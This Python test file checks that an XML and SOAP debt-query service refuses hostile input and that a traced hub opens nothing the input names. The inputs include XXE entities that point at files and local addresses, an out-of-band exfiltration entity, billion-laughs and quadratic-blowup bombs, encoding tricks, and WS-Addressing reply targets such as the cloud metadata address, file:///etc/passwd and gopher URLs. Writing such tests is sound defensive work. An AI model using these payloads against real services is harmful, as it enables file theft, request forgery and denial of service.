"""XML that is made to hurt: document types, bombs, depth, width, encodings, split text, envelopes that are none, addresses.

Rows A6, A11 to A14, A16, A19, A33 and A34 of the attack table, over the REST face and both versions of SOAP."""

import http.server
import os
import re
import signal
import threading
import uuid

from attack import CPU_MS, PEAK_MB, SOAP, AttackTest, context_block, envelope, rest_request, soap_request
from flow import main
from line import Line

TYPES = "urn:sakta:types:debts.query:1"
WSA = "http://www.w3.org/2005/08/addressing"
XSI = "http://www.w3.org/2001/XMLSchema-instance"
PERSON = "<personCode>161175-19997</personCode>"
FACES = ("rest", "1.1", "1.2")


def question(inner=PERSON, attributes=""):
    return f'<QueryDebts xmlns="{TYPES}"{attributes}>{inner}</QueryDebts>'


def document(face, inner=PERSON, attributes="", prolog=""):
    """The question as a face takes it, `prolog` before the root."""
    if face == "rest":
        return (prolog + question(inner, attributes)).encode()
    return envelope(question(inner, attributes), version=face, prolog=prolog)


def sent(face, octets, charset="; charset=utf-8"):
    """`charset`: the parameter of the media type, which goes before what the document declares."""
    if face == "rest":
        return rest_request(octets, media="application/xml" + charset)
    return soap_request(octets, version=face, **{"Content-Type": SOAP[face][1].partition(";")[0] + charset})


def refused_status(face, rest=400):
    """SOAP 1.1 answers every fault with 500 (its section 6.2), SOAP 1.2 the sender's with 400."""
    return {"rest": rest, "1.1": 500, "1.2": 400}[face]


class Listener:
    """What an input names, and nobody must ask for."""

    def __init__(self):
        seen = self.seen = []

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):
                seen.append(self.path)
                self.send_error(404)

            do_POST = do_GET

            def log_message(self, *_):
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_address[1]
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self):
        self.server.shutdown()
        self.server.server_close()


def fetching(file, port):
    """(what, parts of the document, code, code over SOAP): inputs of A11 that name a file and an address."""
    web = f"http://127.0.0.1:{port}/x"
    dtd = ("codec.dtd_forbidden",) * 2
    inside = ("codec.not_valid",) * 2
    taken = (None,) * 2  # a hint that is true and that nobody follows (XML Schema part 1, 4.3.2)
    yield "DOCTYPE alone", {"prolog": "<!DOCTYPE QueryDebts>"}, *dtd
    yield "DOCTYPE with a file", {"prolog": f'<!DOCTYPE QueryDebts SYSTEM "file://{file}">'}, *dtd
    yield "DOCTYPE with an address", {"prolog": f'<!DOCTYPE QueryDebts PUBLIC "-//X" "{web}">'}, *dtd
    for what, name in (("file", f"file://{file}"), ("http", web), ("ftp", f"ftp://127.0.0.1:{port}/x"), ("path", file)):
        yield (f"XXE, {what}", {"prolog": f'<!DOCTYPE a [<!ENTITY x SYSTEM "{name}">]>', "inner": "<personCode>&x;</personCode>"},
               *dtd)
    yield "XXE, parameter entity", {"prolog": f'<!DOCTYPE a [<!ENTITY % x SYSTEM "{web}"> %x;]>'}, *dtd
    yield ("XXE, out of band", {"prolog": f'<!DOCTYPE a [<!ENTITY % f SYSTEM "file://{file}"><!ENTITY % x "<!ENTITY y SYSTEM '
                                          f"'{web}?%f;'>\"> %x;]>", "inner": "<personCode>&y;</personCode>"}, *dtd)
    yield "an entity nobody declared", {"inner": "<personCode>&x;</personCode>"}, *("codec.not_well_formed",) * 2
    for name in (f"file://{file}", web):
        yield (f"XInclude, {name[:4]}", {"inner": f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{name}"/>'}, *inside)
        yield (f"xml-stylesheet, {name[:4]}", {"prolog": f'<?xml-stylesheet href="{name}" type="text/xsl"?>'},
               "codec.not_valid", "edge.envelope")
        yield (f"schemaLocation, {name[:4]}", {"attributes": f' xmlns:xsi="{XSI}" xsi:schemaLocation="{TYPES} {name}"'}, *taken)
        yield (f"noNamespaceSchemaLocation, {name[:4]}",
               {"attributes": f' xmlns:xsi="{XSI}" xsi:noNamespaceSchemaLocation="{name}"'}, *taken)


def addresses(port):
    """(what, the address): where A34 would have an answer go."""
    yield "link-local", "http://169.254.169.254/latest/meta-data"
    yield "localhost", f"http://127.0.0.1:{port}/x"
    yield "file", "file:///etc/passwd"
    yield "gopher", f"gopher://127.0.0.1:{port}/_x"
    yield "mapped", f"http://[::ffff:127.0.0.1]:{port}/x"
    yield "decimal", f"http://2130706433:{port}/x"
    yield "a name", "http://rebind.example/x"


class Xml(AttackTest):
    max_body_kib = {"debts.query": 10240}  # so that the parser's locks are met, not the type's size

    def everywhere(self, row, what, code, soap_code=None, rest_status=400, cpu_ms=CPU_MS, peak_mb=PEAK_MB, **parts):
        for face in FACES:
            with self.subTest(what, face=face):
                self.attack(row, f"{face}: {what}", sent(face, document(face, **parts)), refused_status(face, rest_status),
                            code if face == "rest" else soap_code or code, cpu_ms=cpu_ms, peak_mb=peak_mb)

    # --- A12 to A16 --------------------------------------------------------------------------------------------
    def test_entities_that_grow(self):
        laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
        self.everywhere("A12", "billion laughs", "codec.dtd_forbidden",
                        prolog=f'<!DOCTYPE a [<!ENTITY l0 "lol">{laughs}]>', inner="<personCode>&l9;</personCode>")
        self.everywhere("A12", "quadratic blow-up, 10^5 x 10^4", "codec.dtd_forbidden",
                        prolog=f'<!DOCTYPE a [<!ENTITY x "{"x" * 100_000}">]>', inner="&x;" * 10_000)

    def test_depth(self):
        for depth in (65, 100_000):
            self.everywhere("A13", f"depth {depth}", "codec.limit", inner="<a>" * depth + "</a>" * depth)
        self.everywhere("A13", "depth 100000 without ends", "codec.limit", inner="<a>" * 100_000)

    def test_width_of_a_tag(self):
        self.everywhere("A14", "100,000 attributes in a tag", "codec.limit",
                        attributes="".join(f' a{n:05}="v"' for n in range(100_000)))
        self.everywhere("A14", "257 attributes in a tag", "codec.limit", attributes="".join(f' a{n}=""' for n in range(257)))
        self.everywhere("A14", "50,000 xmlns in a tag", "codec.limit",
                        attributes="".join(f' xmlns:n{n}="urn:{n}"' for n in range(50_000)))
        inner = ""
        for depth in range(5):
            inner += "<a" + "".join(f' xmlns:n{depth}x{n}="u"' for n in range(60)) + ">"
        self.everywhere("A14", "300 namespaces in scope", "codec.limit", inner=inner + "</a>" * 5)

    def test_sheer_size(self):
        for what, parts in (("20 MB of text", {"inner": f"<personCode>{'1' * 20_000_000}</personCode>"}),
                            ("a 20 MB attribute", {"attributes": f' a="{"x" * 20_000_000}"'}),
                            ("a 20 MB comment", {"inner": f"<!--{'x' * 20_000_000}-->{PERSON}"}),
                            ("5,000,000 siblings", {"inner": "<a/>" * 5_000_000})):
            for face in FACES:
                with self.subTest(what, face=face):
                    self.attack("A16", f"{face}: {what}", sent(face, document(face, **parts)), (413, 500), "edge.too_large",
                                recorded=False)

    def test_size_within_the_limit_of_a_body(self):
        self.everywhere("A16", "9 MB of siblings", "codec.limit", inner="<a/>" * 2_250_000)
        self.everywhere("A16", "a name of 200,000 characters", "codec.limit", inner=f"<{'n' * 200_000}/>")
        self.everywhere("A16", "a 9 MB attribute", "codec.limit", attributes=f' a="{"x" * 9_000_000}"')
        self.everywhere("A16", "9 MB of text in 800,000 pieces", "codec.limit",
                        inner=f"<personCode>{'1234<!---->' * 800_000}</personCode>")
        # As large as the type allows, it is read, taken out of its envelope and validated: several copies, no blow-up.
        self.everywhere("A16", "9 MB in an element of eleven characters", "codec.wrong_shape", rest_status=422, cpu_ms=300,
                        peak_mb=100, inner=f"<personCode>{'1' * 9_000_000}</personCode>")

    # --- A19 ---------------------------------------------------------------------------------------------------
    def test_encodings(self):
        whole = {face: document(face).decode() for face in FACES}
        declared = '<?xml version="1.0" encoding="{}"?>'
        cases = [
            ("UTF-16 LE without a mark", lambda text: text.encode("utf-16-le"), "codec.encoding"),
            ("UTF-16 BE without a mark", lambda text: text.encode("utf-16-be"), "codec.encoding"),
            ("UTF-32 with a mark", lambda text: text.encode("utf-32"), "codec.encoding"),
            ("UTF-32 BE without a mark", lambda text: text.encode("utf-32-be"), "codec.encoding"),
            ("UTF-7, declared", lambda text: declared.format("UTF-7").encode() + text.encode(), "codec.encoding"),
            ("windows-1251, declared", lambda text: declared.format("windows-1251").encode() + text.encode(), "codec.encoding"),
            ("a document type in UTF-16", lambda text: ("<!DOCTYPE x>" + text).encode("utf-16"), "codec.dtd_forbidden"),
            ("a document type in ISO-8859-13",
             lambda text: declared.format("ISO-8859-13").encode() + b"<!DOCTYPE x>" + text.encode(), "codec.dtd_forbidden"),
            ("UTF-16 declared, UTF-8 sent", lambda text: declared.format("UTF-16").encode() + text.encode(), "codec.encoding"),
            ("a mark of UTF-16 before UTF-8", lambda text: b"\xff\xfe" + text.encode(), ("codec.encoding", "codec.not_well_formed")),
            ("two marks", lambda text: b"\xef\xbb\xbf\xff\xfe" + text.encode(), "codec.encoding"),
            ("an overlong stroke", lambda text: text.encode().replace(b"161175-", b"161175-\xc0\xaf"), "codec.encoding"),
            ("an overlong bracket", lambda text: text.encode().replace(b"161175-", b"\xe0\x80\xbca/>"), "codec.encoding"),
            ("a lone surrogate", lambda text: text.encode().replace(b"161175-", b"\xed\xa0\x80"), "codec.encoding"),
            ("beyond Unicode", lambda text: text.encode().replace(b"161175-", b"\xf4\x90\x80\x80"), "codec.encoding"),
            ("NUL", lambda text: text.encode().replace(b"161175-", b"161175-\0"), "codec.control_character"),
            ("a reference to NUL", lambda text: text.encode().replace(b"161175-", b"&#0;"), "codec.control_character"),
            ("U+FFFE", lambda text: text.encode().replace(b"161175-", "\ufffe".encode()), "codec.control_character"),
        ]
        for what, encode, code in cases:
            for face, text in whole.items():
                with self.subTest(what, face=face):
                    self.attack("A19", f"{face}: {what}", sent(face, encode(text), ""), refused_status(face), code)

    def test_an_encoding_that_is_said_is_read(self):
        """RFC 7303, 3: a byte order mark, else the charset of the media type, else the declaration."""
        declared = '<?xml version="1.0" encoding="{}"?>'
        for face in FACES:
            text = document(face).decode()
            for what, octets, charset in (
                    ("UTF-16 with a mark", text.encode("utf-16"), ""),
                    ("UTF-16, declared", (declared.format("UTF-16") + text).encode("utf-16"), ""),
                    ("UTF-16 with a mark, other things said", (declared.format("UTF-8") + text).encode("utf-16"), "; charset=utf-8"),
                    ("ISO-8859-13, declared", (declared.format("ISO-8859-13") + text).encode("iso-8859-13"), ""),
                    ("windows-1257, declared", (declared.format("windows-1257") + text).encode("cp1257"), ""),
                    ("ISO-8859-1, declared", (declared.format("ISO-8859-1") + text).encode("latin1"), ""),
                    ("UTF-8 by charset, UTF-16 declared", (declared.format("UTF-16") + text).encode(), "; charset=utf-8")):
                with self.subTest(what, face=face), Line(self.hub) as line:
                    self.assertEqual(line.exchange(sent(face, octets, charset)).status, 200)

    # --- A6 ----------------------------------------------------------------------------------------------------
    def answer_to(self, face, inner):
        with Line(self.hub) as line:
            answer = line.exchange(sent(face, document(face, inner=inner)))
        return answer.status, re.sub(rb"(?s)\"asOf\":\"[^\"]*\"|<(\w+:)?asOf>[^<]*<|urn:uuid:[-0-9a-f]*", b"", answer.body)

    def test_split_text_is_read_whole_or_not_at_all(self):
        for face in FACES:
            whole = self.answer_to(face, PERSON)
            self.assertEqual(whole[0], 200, whole)
            for what, split in (("comment", "161175<!-- -->-19997"), ("CDATA", "<![CDATA[161175-]]>19997"),
                                ("references", "161175&#45;19&#x39;97"), ("two comments", "<!---->161175-1999<!--0-->7")):
                with self.subTest(what, face=face):
                    self.assertEqual(self.answer_to(face, f"<personCode>{split}</personCode>"), whole)
                    self.note("A6", f"{face}: split by {what}", "read whole", 0, 0)
            for what, split in (("comment", "161175-19997<!-- -->0"), ("CDATA", "161175-19997<![CDATA[0]]>"),
                                ("an empty comment", "161175-19997<!---->-19997")):
                with self.subTest(what, face=face):
                    self.attack("A6", f"{face}: good up to a {what}",
                                sent(face, document(face, inner=f"<personCode>{split}</personCode>")),
                                refused_status(face, 422), "codec.wrong_shape")
            self.attack("A6", f"{face}: split by an instruction",
                        sent(face, document(face, inner="<personCode>161175-19997<?x?></personCode>")),
                        refused_status(face, 422), "codec.not_valid" if face == "rest" else "edge.envelope")

    # --- A33 ---------------------------------------------------------------------------------------------------
    def soap(self, row, what, body, status, code, version="1.1", fault=None, **headers):
        with self.subTest(what, version=version):
            answer = self.attack(row, f"{version}: {what}", soap_request(body, version=version, **headers), status, code)
            if fault:
                self.assertIn(f"soap:{fault}".encode(), answer.body)

    def test_action_and_body_disagree(self):
        action = f'<w:Action xmlns:w="{WSA}">urn:other</w:Action>'
        for version, status in (("1.1", 500), ("1.2", 400)):
            fault = "Client" if version == "1.1" else "Sender"
            self.soap("A33", "wsa:Action of another operation", envelope(question(), context_block() + action, version), status,
                      "edge.action", version, fault)
        self.soap("A33", "SOAPAction of another operation", envelope(question()), 500, "edge.action", fault="Client",
                  SOAPAction='"urn:other"')
        self.soap("A33", "SOAPAction and wsa:Action disagree", envelope(question(), context_block() + action), 500, "edge.action",
                  fault="Client", SOAPAction=f'"{TYPES}:QueryDebts"')
        media = {"Content-Type": f'{SOAP["1.2"][1]}; action="urn:other"'}
        self.soap("A33", "action parameter of another operation", envelope(question(), version="1.2"), 400, "edge.action", "1.2",
                  "Sender", **media)

    def test_a_block_that_must_be_understood(self):
        for version, status, true in (("1.1", 500, "1"), ("1.2", 500, "true")):
            block = f'<x:Pay xmlns:x="urn:x" s:mustUnderstand="{true}"/>'
            self.soap("A33", "mustUnderstand of an unknown block", envelope(question(), context_block() + block, version),
                      (400, status), "edge.must_understand", version, "MustUnderstand")

    def test_versions_mixed(self):
        self.soap("A33", "a 1.2 envelope as text/xml", envelope(question(), version="1.2"), (400, 500), "edge.soap_version", "1.1",
                  "VersionMismatch")
        self.soap("A33", "a 1.1 envelope as soap+xml", envelope(question(), version="1.1"), (400, 500), "edge.soap_version", "1.2",
                  "VersionMismatch")
        self.soap("A33", "an envelope of no version", envelope(question()).replace(SOAP["1.1"][0].encode(), b"urn:soap"), 500,
                  "edge.soap_version", "1.1", "VersionMismatch")
        mixed = envelope(question()).replace(b"<s:Body>", f'<s:Body xmlns:s="{SOAP["1.2"][0]}">'.encode())
        self.soap("A33", "a 1.2 Body in a 1.1 envelope", mixed, 500, ("edge.envelope", "codec.not_well_formed"), "1.1")

    def test_envelopes_that_are_none(self):
        body = f"<s:Body>{question()}</s:Body>"
        space = SOAP["1.1"][0]
        for what, inner in (("two Bodies", body + body), ("a Body in the Header", f"<s:Header>{body}</s:Header>{body}{body}"),
                            ("two questions", f"<s:Body>{question()}{question()}</s:Body>"), ("no Body", ""),
                            ("an empty Body", "<s:Body/>"), ("text in the Body", f"<s:Body>x{question()}</s:Body>"),
                            ("Body before Header", f"{body}<s:Header/>"), ("an element behind the Body", f"{body}<x/>")):
            self.soap("A33", what, f'<s:Envelope xmlns:s="{space}">{inner}</s:Envelope>'.encode(), 500, "edge.envelope")

    # --- A34 ---------------------------------------------------------------------------------------------------
    def test_answers_go_nowhere_else(self):
        for version, status in (("1.1", 500), ("1.2", 400)):
            for what, address in addresses(1):
                for name in ("ReplyTo", "FaultTo"):
                    block = f'<w:{name} xmlns:w="{WSA}"><w:Address>{address}</w:Address></w:{name}>'
                    self.soap("A34", f"{name} {what}", envelope(question(), context_block() + block, version), status,
                              "edge.addressing", version)


class Fetches(AttackTest):
    """The same hub under strace: nothing that an input names is opened, and nobody is called."""

    max_body_kib = {"debts.query": 10240}

    @classmethod
    def prepare(cls):
        cls.calls = cls.folder / "calls"
        cls.canary = cls.folder / f"canary-{uuid.uuid4()}"
        cls.canary.write_text("161175-19997")
        cls.listener = Listener()
        cls.addClassCleanup(cls.listener.close)
        launch = cls.hub.launch
        prefix = ["strace", "-f", "-qq", "-e", "trace=open,openat,connect", "-o", cls.calls]
        cls.hub.launch = lambda **env: launch(prefix, ASAN_OPTIONS="detect_leaks=0", **env)  # leaks cannot be traced too
        super().prepare()
        cls.addClassCleanup(os.killpg, cls.hub.program.pid, signal.SIGKILL)  # killed alone, the tracer leaves the hub behind

    def note(self, row, what, shown, cpu, peak, cpu_ms=0, peak_mb=0):
        """Nothing is measured here: the tracer's cost is in it."""

    def own_ports(self):
        """Of the systems that the site names; where nothing listens it is 1 (hub.py)."""
        return ["1", *map(str, self.sandbox.ports.values())]

    def called(self, since):
        return self.calls.read_text()[since:]

    def test_nothing_is_opened_and_nobody_is_called(self):
        self.assertIn("openat(", self.called(0), "the tracer sees nothing")
        since = len(self.called(0))
        for what, parts, code, soap_code in fetching(self.canary, self.listener.port):
            for face in ("rest", "1.2"):
                with self.subTest(what, face=face):
                    if code is None:
                        with Line(self.hub) as line:
                            self.assertEqual(line.exchange(sent(face, document(face, **parts))).status, 200)
                    else:
                        self.attack("A11", what, sent(face, document(face, **parts)), refused_status(face, (400, 422)),
                                    code if face == "rest" else soap_code)
        for what, address in addresses(self.listener.port):
            block = f'<w:ReplyTo xmlns:w="{WSA}"><w:Address>{address}</w:Address></w:ReplyTo>'
            with self.subTest(what):
                self.attack("A34", what, soap_request(envelope(question(), context_block() + block)), 500, "edge.addressing")
        after = self.called(since)
        self.assertNotIn(str(self.canary), after)
        self.assertNotIn("/etc/passwd", after)
        called = re.findall(r"connect\(\d+, (?!\{sa_family=AF_INET, sin_port=htons\((?:" + "|".join(self.own_ports()) + r")\)).*", after)
        self.assertEqual(called, [], "the hub called somebody whom its site does not name")
        self.assertEqual(self.listener.seen, [])


class Prices(AttackTest):
    """What A11 costs without the tracer."""

    max_body_kib = {"debts.query": 10240}

    def test_documents_that_name_files_and_addresses(self):
        for what, parts, code, soap_code in fetching("/etc/passwd", 1):
            for face in FACES if code else ():
                with self.subTest(what, face=face):
                    self.attack("A11", f"{face}: {what}", sent(face, document(face, **parts)), refused_status(face, (400, 422)),
                                code if face == "rest" else soap_code)


class AsShipped(AttackTest):
    """With the type's own limit of a body, most never meet a parser."""

    def test_size(self):
        for what, inner in (("a 9 MB comment", f"<!--{'x' * 9_000_000}-->{PERSON}"), ("9 MB of text", "1" * 9_000_000)):
            for face in FACES:
                with self.subTest(what, face=face):
                    self.attack("A16", f"{face}: {what}, as shipped", sent(face, document(face, inner=inner)),
                                413, "edge.too_large")


if __name__ == "__main__":
    main()
